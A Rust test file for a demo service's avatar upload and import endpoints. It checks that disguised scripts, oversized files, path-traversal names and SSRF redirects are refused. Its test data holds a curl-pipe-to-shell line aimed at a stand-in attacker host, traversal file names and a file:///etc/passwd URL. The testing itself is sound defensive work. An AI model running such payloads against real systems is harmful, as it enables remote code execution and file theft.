//! Avatars over real HTTPS on 127.0.0.1 (issue 19): the upload's multipart contract (a script
//! disguised as a PNG, an oversized file, an extra part, a path-like file name, a good PNG
//! round trip), and the import through the SSRF-guarded client from a local fixture that the
//! test's configuration allows explicitly: redirects into a loopback address that is not
//! allowed and non-image answers are refused. Every connection stays on loopback: the
//! fixture on 127.0.0.1, "tripwire" listeners on 127.0.0.2 that count what they accept and
//! must count nothing.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use axum::http::{header, StatusCode as AxumStatus};
use axum::response::{IntoResponse, Redirect, Response};
use demo::{app, DemoConfig};
use reqwest::{Client, StatusCode};
use serde_json::{json, Value};

const PASSWORD: &str = "avatar tests password";

/// A valid 1x1 PNG.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\0\x01\0\0\x05\0\x01\r\n-\xb4\0\0\0\0IEND\xaeB`\x82";
/// The start of a JPEG (JFIF).
const JPEG: &[u8] = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9";
/// A shell script, sent as `avatar.png` and `image/png`.
const SCRIPT: &[u8] = b"#!/bin/sh\ncurl https://attacker.example/x | sh\n";

fn config() -> DemoConfig {
    DemoConfig {
        jwt_secret: b"avatar tests secret, at least 32 bytes".to_vec(),
        password: PASSWORD.into(),
        reports_api_key: "demo_avatars0123456789abcdef0123456789".into(),
        webhook_secret: "avatar tests webhook secret, 32+ bytes".into(),
        cors_origins: Vec::new(),
        trusted_proxies: Vec::new(),
        audit_file: None,
        redis_url: None,
        signed: demo::hooks::SignedSenders::generate(),
    }
}

struct Demo {
    base: String,
    client: Client,
}

/// The demo over HTTPS on 127.0.0.1:0; `importer`: the import client the test allows.
async fn start(importer: Option<secure_endpoint::outbound::OutboundClient>) -> Demo {
    let (router, mut state) = app(&config());
    if let Some(client) = importer {
        state = state.with_avatar_importer(client);
    }
    let (tls, ca) = demo::server::tls_config(None).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("https://{}", listener.local_addr().unwrap());
    tokio::spawn(demo::server::serve_https(listener, tls, router, state));
    let _ = rustls::crypto::ring::default_provider().install_default();
    let client = Client::builder()
        .tls_certs_only([reqwest::Certificate::from_pem(ca.unwrap().as_bytes()).unwrap()])
        .no_proxy()
        .timeout(Duration::from_secs(20))
        .build()
        .unwrap();
    Demo { base, client }
}

impl Demo {
    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }

    /// A token and the user's id.
    async fn login(&self, email: &str) -> (String, String) {
        let res = self
            .client
            .post(self.url("/api/login"))
            .json(&json!({ "email": email, "password": PASSWORD }))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::OK);
        let token = res.json::<Value>().await.unwrap()["token"]
            .as_str()
            .unwrap()
            .to_owned();
        let me: Value = self
            .client
            .get(self.url("/api/users/me"))
            .bearer_auth(&token)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        (token, me["id"].as_str().unwrap().to_owned())
    }

    async fn upload(&self, token: &str, parts: &[FormPart<'_>]) -> reqwest::Response {
        let (content_type, body) = multipart(parts);
        self.client
            .put(self.url("/api/users/me/avatar"))
            .bearer_auth(token)
            .header("content-type", content_type)
            .body(body)
            .send()
            .await
            .unwrap()
    }

    async fn avatar(&self, token: &str, user_id: &str) -> reqwest::Response {
        self.client
            .get(self.url(&format!("/api/users/{user_id}/avatar")))
            .bearer_auth(token)
            .send()
            .await
            .unwrap()
    }

    async fn import(&self, token: &str, url: &str) -> reqwest::Response {
        self.client
            .post(self.url("/api/users/me/avatar/import"))
            .bearer_auth(token)
            .json(&json!({ "url": url }))
            .send()
            .await
            .unwrap()
    }
}

/// One part of a hand-built form: name, file name, declared type, content.
type FormPart<'a> = (&'a str, Option<&'a str>, Option<&'a str>, &'a [u8]);

/// A `multipart/form-data` body written by hand, so the tests control every header.
fn multipart(parts: &[FormPart<'_>]) -> (String, Vec<u8>) {
    let boundary = "avatar-test-boundary-7MA4YWxkTrZu0gW";
    let mut body = Vec::new();
    for (name, file_name, content_type, content) in parts {
        body.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
        let mut disposition = format!("Content-Disposition: form-data; name=\"{name}\"");
        if let Some(file_name) = file_name {
            disposition.push_str(&format!("; filename=\"{file_name}\""));
        }
        body.extend_from_slice(format!("{disposition}\r\n").as_bytes());
        if let Some(ct) = content_type {
            body.extend_from_slice(format!("Content-Type: {ct}\r\n").as_bytes());
        }
        body.extend_from_slice(b"\r\n");
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

/// A problem with `status`, the security headers, and the part named in `errors`.
async fn problem(res: reqwest::Response, status: StatusCode) -> Value {
    assert_eq!(res.status(), status);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
    let body: Value = res.json().await.unwrap();
    assert_eq!(body["status"], status.as_u16());
    assert!(body["error_id"].is_string() && body["request_id"].is_string());
    body
}

fn field_errors(problem: &Value) -> Vec<&str> {
    problem["errors"]
        .as_array()
        .map(|errors| errors.iter().filter_map(|e| e["field"].as_str()).collect())
        .unwrap_or_default()
}

#[tokio::test]
async fn a_png_round_trips_with_its_real_type_and_nosniff() {
    let demo = start(None).await;
    let (alice, alice_id) = demo.login("alice@example.com").await;
    let (bob, _) = demo.login("bob@example.com").await;
    // Nothing stored yet.
    problem(demo.avatar(&alice, &alice_id).await, StatusCode::NOT_FOUND).await;

    let res = demo
        .upload(&alice, &[("file", Some("me.png"), Some("image/png"), PNG)])
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    let stored: Value = res.json().await.unwrap();
    assert_eq!(
        stored,
        json!({ "content_type": "image/png", "size": PNG.len(), "file_name": "me.png" })
    );
    let res = demo.avatar(&alice, &alice_id).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "image/png");
    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
    assert_eq!(&res.bytes().await.unwrap()[..], PNG);
    // Another user's avatar is theirs only, as their profile is: 404, never 403.
    problem(demo.avatar(&bob, &alice_id).await, StatusCode::NOT_FOUND).await;

    // A JPEG replaces it, served as a JPEG.
    let res = demo
        .upload(&alice, &[("file", None, Some("image/jpeg"), JPEG)])
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    let res = demo.avatar(&alice, &alice_id).await;
    assert_eq!(res.headers()["content-type"], "image/jpeg");
    assert_eq!(&res.bytes().await.unwrap()[..], JPEG);
}

#[tokio::test]
async fn a_script_disguised_as_a_png_is_refused() {
    let demo = start(None).await;
    let (alice, alice_id) = demo.login("alice@example.com").await;
    let refusal = problem(
        demo.upload(
            &alice,
            &[("file", Some("avatar.png"), Some("image/png"), SCRIPT)],
        )
        .await,
        StatusCode::UNSUPPORTED_MEDIA_TYPE,
    )
    .await;
    assert_eq!(refusal["code"], "content_type_not_allowed");
    assert_eq!(field_errors(&refusal), ["file"]);
    assert!(!refusal.to_string().contains("curl"), "content not echoed");
    // A real PNG declared as something else is a mismatch.
    let refusal = problem(
        demo.upload(&alice, &[("file", Some("a.jpg"), Some("image/jpeg"), PNG)])
            .await,
        StatusCode::UNSUPPORTED_MEDIA_TYPE,
    )
    .await;
    assert_eq!(refusal["code"], "content_type_mismatch");
    // Not multipart at all.
    let res = demo
        .client
        .put(demo.url("/api/users/me/avatar"))
        .bearer_auth(&alice)
        .json(&json!({ "file": "x" }))
        .send()
        .await
        .unwrap();
    problem(res, StatusCode::UNSUPPORTED_MEDIA_TYPE).await;
    // Nothing was stored.
    problem(demo.avatar(&alice, &alice_id).await, StatusCode::NOT_FOUND).await;
}

#[tokio::test]
async fn an_oversized_file_is_refused() {
    let demo = start(None).await;
    let (alice, _) = demo.login("alice@example.com").await;
    // One byte over the part's 1 MiB, within the form's total.
    let mut big = PNG.to_vec();
    big.resize(1024 * 1024 + 1, 0);
    let refusal = problem(
        demo.upload(
            &alice,
            &[("file", Some("big.png"), Some("image/png"), &big)],
        )
        .await,
        StatusCode::PAYLOAD_TOO_LARGE,
    )
    .await;
    assert_eq!(refusal["code"], "part_too_large");
    assert_eq!(field_errors(&refusal), ["file"]);
    // Exactly 1 MiB is accepted.
    big.truncate(1024 * 1024);
    let res = demo
        .upload(
            &alice,
            &[("file", Some("big.png"), Some("image/png"), &big)],
        )
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    // A body over the form's total is refused by its length.
    big.resize(2 * 1024 * 1024, 0);
    problem(
        demo.upload(&alice, &[("file", None, Some("image/png"), &big)])
            .await,
        StatusCode::PAYLOAD_TOO_LARGE,
    )
    .await;
}

#[tokio::test]
async fn an_extra_part_is_refused_by_name() {
    let demo = start(None).await;
    let (alice, alice_id) = demo.login("alice@example.com").await;
    let refusal = problem(
        demo.upload(
            &alice,
            &[
                ("file", Some("me.png"), Some("image/png"), PNG),
                ("owner_id", None, None, b"someone-else"),
            ],
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(refusal["code"], "unknown_part");
    assert_eq!(field_errors(&refusal), ["owner_id"]);
    // The same part twice, and no part at all.
    let refusal = problem(
        demo.upload(
            &alice,
            &[
                ("file", None, Some("image/png"), PNG),
                ("file", None, Some("image/png"), PNG),
            ],
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(refusal["code"], "too_many_parts");
    let refusal = problem(
        demo.upload(&alice, &[]).await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(refusal["code"], "missing_parts");
    assert_eq!(field_errors(&refusal), ["file"]);
    problem(demo.avatar(&alice, &alice_id).await, StatusCode::NOT_FOUND).await;
}

#[tokio::test]
async fn a_path_like_file_name_is_never_used_as_a_path() {
    let demo = start(None).await;
    let (alice, alice_id) = demo.login("alice@example.com").await;
    let dir = std::env::temp_dir().join(format!("se-avatar-{}", uuid::Uuid::new_v4()));
    std::fs::create_dir_all(&dir).unwrap();
    let target = dir.join("pwned.png");
    // An absolute path, a traversal into it, and a Windows spelling.
    for name in [
        target.display().to_string(),
        format!("../../../../../../..{}", target.display()),
        "..\\..\\..\\Windows\\pwned.png".to_owned(),
    ] {
        let res = demo
            .upload(&alice, &[("file", Some(&name), Some("image/png"), PNG)])
            .await;
        assert_eq!(res.status(), StatusCode::OK, "{name}");
        let stored: Value = res.json().await.unwrap();
        assert_eq!(
            stored["file_name"], "pwned.png",
            "only the last component, shown"
        );
        assert!(!target.exists(), "nothing was written at {name}");
    }
    assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 0);
    std::fs::remove_dir(&dir).unwrap();
    // Stored under the user's id, served from there.
    let res = demo.avatar(&alice, &alice_id).await;
    assert_eq!(&res.bytes().await.unwrap()[..], PNG);
}

// ---- import through the guarded client -------------------------------------------------------

/// Counts what a fixture served or a tripwire accepted.
#[derive(Clone, Default)]
struct Hits(Arc<AtomicUsize>);

impl Hits {
    fn get(&self) -> usize {
        self.0.load(Ordering::SeqCst)
    }
}

/// A listener on `ip:port` that accepts and drops connections, counting them.
async fn tripwire(ip: Ipv4Addr, port: u16) -> Option<Hits> {
    let listener = tokio::net::TcpListener::bind((ip, port)).await.ok()?;
    let hits = Hits::default();
    let counter = hits.clone();
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            counter.0.fetch_add(1, Ordering::SeqCst);
            drop(socket);
        }
    });
    Some(hits)
}

/// The image fixture on 127.0.0.1, plain HTTP, and a tripwire on 127.0.0.2 at the same port
/// (so a redirect there is refused for its address, not its port).
async fn fixture() -> (SocketAddr, Hits, Hits) {
    for _ in 0..20 {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let Some(tripwire) = tripwire(Ipv4Addr::new(127, 0, 0, 2), addr.port()).await else {
            continue;
        };
        let served = Hits::default();
        let counter = served.clone();
        let port = addr.port();
        let png = |body: Vec<u8>| ([(header::CONTENT_TYPE, "image/png")], body).into_response();
        let app = axum::Router::new()
            .route(
                "/avatar.png",
                axum::routing::get(move || async move { png(PNG.to_vec()) }),
            )
            .route(
                "/script.png",
                axum::routing::get(|| async { ([(header::CONTENT_TYPE, "image/png")], SCRIPT) }),
            )
            .route(
                "/page",
                axum::routing::get(|| async {
                    (
                        [(header::CONTENT_TYPE, "text/html")],
                        "<html><script>x()</script></html>",
                    )
                }),
            )
            .route(
                "/huge.png",
                axum::routing::get(move || async move {
                    let mut big = PNG.to_vec();
                    big.resize(1024 * 1024 + 1, 0);
                    png(big)
                }),
            )
            .route(
                "/broken",
                axum::routing::get(|| async {
                    (
                        AxumStatus::INTERNAL_SERVER_ERROR,
                        "upstream stack trace: secret-db-password at line 7",
                    )
                }),
            )
            // One hop, then the image: a redirect inside the allowance is followed.
            .route(
                "/hop",
                axum::routing::get(|| async { Redirect::temporary("/avatar.png") }),
            )
            // Two hops inside the fixture, then into 127.0.0.2 (loopback, not allowed).
            .route(
                "/chain/1",
                axum::routing::get(|| async { Redirect::temporary("/chain/2") }),
            )
            .route(
                "/chain/2",
                axum::routing::get(move || async move {
                    Redirect::temporary(&format!("http://127.0.0.2:{port}/avatar.png"))
                }),
            )
            // More hops than the client's 3.
            .route(
                "/loop/{n}",
                axum::routing::get(
                    |axum::extract::Path(n): axum::extract::Path<u32>| async move {
                        Redirect::temporary(&format!("/loop/{}", n + 1))
                    },
                ),
            )
            .layer(axum::middleware::from_fn(
                move |request: axum::extract::Request, next: axum::middleware::Next| {
                    let counter = counter.clone();
                    async move {
                        counter.0.fetch_add(1, Ordering::SeqCst);
                        let response: Response = next.run(request).await;
                        response
                    }
                },
            ));
        tokio::spawn(async move { axum::serve(listener, app).await });
        return (addr, served, tripwire);
    }
    panic!("no port free on both 127.0.0.1 and 127.0.0.2");
}

/// The demo's import client, allowing exactly this fixture: plain HTTP, its port, 127.0.0.1.
fn allowing(addr: SocketAddr) -> secure_endpoint::outbound::OutboundClient {
    demo::avatars::import_client()
        .allow_http()
        .allow_ports([addr.port()])
        .allow_internal([IpAddr::V4(Ipv4Addr::LOCALHOST)])
        .build()
        .unwrap()
}

#[tokio::test]
async fn an_image_is_imported_from_the_allowed_fixture() {
    let (addr, served, tripwire) = fixture().await;
    let demo = start(Some(allowing(addr))).await;
    let (alice, alice_id) = demo.login("alice@example.com").await;
    for path in ["/avatar.png", "/hop"] {
        let res = demo.import(&alice, &format!("http://{addr}{path}")).await;
        assert_eq!(res.status(), StatusCode::OK, "{path}");
        let stored: Value = res.json().await.unwrap();
        assert_eq!(stored["content_type"], "image/png");
        assert_eq!(stored["size"], PNG.len());
    }
    let res = demo.avatar(&alice, &alice_id).await;
    assert_eq!(res.headers()["content-type"], "image/png");
    assert_eq!(&res.bytes().await.unwrap()[..], PNG);
    assert_eq!(served.get(), 3);
    assert_eq!(tripwire.get(), 0);
}

#[tokio::test]
async fn a_redirect_to_a_loopback_address_not_allowed_is_refused() {
    let (addr, served, tripwire) = fixture().await;
    let demo = start(Some(allowing(addr))).await;
    let (alice, alice_id) = demo.login("alice@example.com").await;
    let refusal = problem(
        demo.import(&alice, &format!("http://{addr}/chain/1")).await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(refusal["code"], "import_url_refused");
    assert!(
        !refusal.to_string().contains("127.0.0.2"),
        "the rule is not told"
    );
    assert_eq!(
        served.get(),
        2,
        "both hops inside the allowance were served"
    );
    assert_eq!(tripwire.get(), 0, "no connection to 127.0.0.2");
    // Straight to it, and to the fixture's address under a port not allowed.
    for url in [
        format!("http://127.0.0.2:{}/avatar.png", addr.port()),
        format!(
            "http://127.0.0.1:{}/avatar.png",
            addr.port().wrapping_add(1)
        ),
    ] {
        let refusal = problem(
            demo.import(&alice, &url).await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(refusal["code"], "import_url_refused", "{url}");
    }
    // More redirects than 3.
    let refusal = problem(
        demo.import(&alice, &format!("http://{addr}/loop/0")).await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(refusal["code"], "import_url_refused");
    assert_eq!(
        served.get(),
        2 + 4,
        "the first request and 3 redirects, no more"
    );
    assert_eq!(tripwire.get(), 0);
    problem(demo.avatar(&alice, &alice_id).await, StatusCode::NOT_FOUND).await;
}

#[tokio::test]
async fn non_images_and_upstream_failures_are_refused_without_passing_them_through() {
    let (addr, _served, tripwire) = fixture().await;
    let demo = start(Some(allowing(addr))).await;
    let (alice, alice_id) = demo.login("alice@example.com").await;
    // A script served as image/png, and an HTML page: not images by their bytes.
    for path in ["/script.png", "/page"] {
        let refusal = problem(
            demo.import(&alice, &format!("http://{addr}{path}")).await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(refusal["code"], "import_not_an_image", "{path}");
        assert!(!refusal.to_string().contains("script"));
    }
    let refusal = problem(
        demo.import(&alice, &format!("http://{addr}/huge.png"))
            .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(refusal["code"], "import_too_large");
    // The upstream's 500 is a 502 of our own, with nothing of its body.
    let refusal = problem(
        demo.import(&alice, &format!("http://{addr}/broken")).await,
        StatusCode::BAD_GATEWAY,
    )
    .await;
    assert_eq!(refusal["code"], "upstream_error");
    assert!(!refusal.to_string().contains("secret-db-password"));
    assert_eq!(tripwire.get(), 0);
    problem(demo.avatar(&alice, &alice_id).await, StatusCode::NOT_FOUND).await;
}

#[tokio::test]
async fn the_default_import_client_refuses_loopback_without_connecting() {
    // The demo as it ships: https, port 443, public addresses only.
    let (addr, served, tripwire) = fixture().await;
    let demo = start(None).await;
    let (alice, _) = demo.login("alice@example.com").await;
    for url in [
        format!("http://{addr}/avatar.png"),
        format!("https://127.0.0.2:{}/avatar.png", addr.port()),
        "https://127.0.0.1/avatar.png".to_owned(),
        "https://[::1]/avatar.png".to_owned(),
        "https://user:pass@127.0.0.1/avatar.png".to_owned(),
        "file:///etc/passwd".to_owned(),
    ] {
        let refusal = problem(
            demo.import(&alice, &url).await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(refusal["code"], "import_url_refused", "{url}");
    }
    assert_eq!((served.get(), tripwire.get()), (0, 0));
}
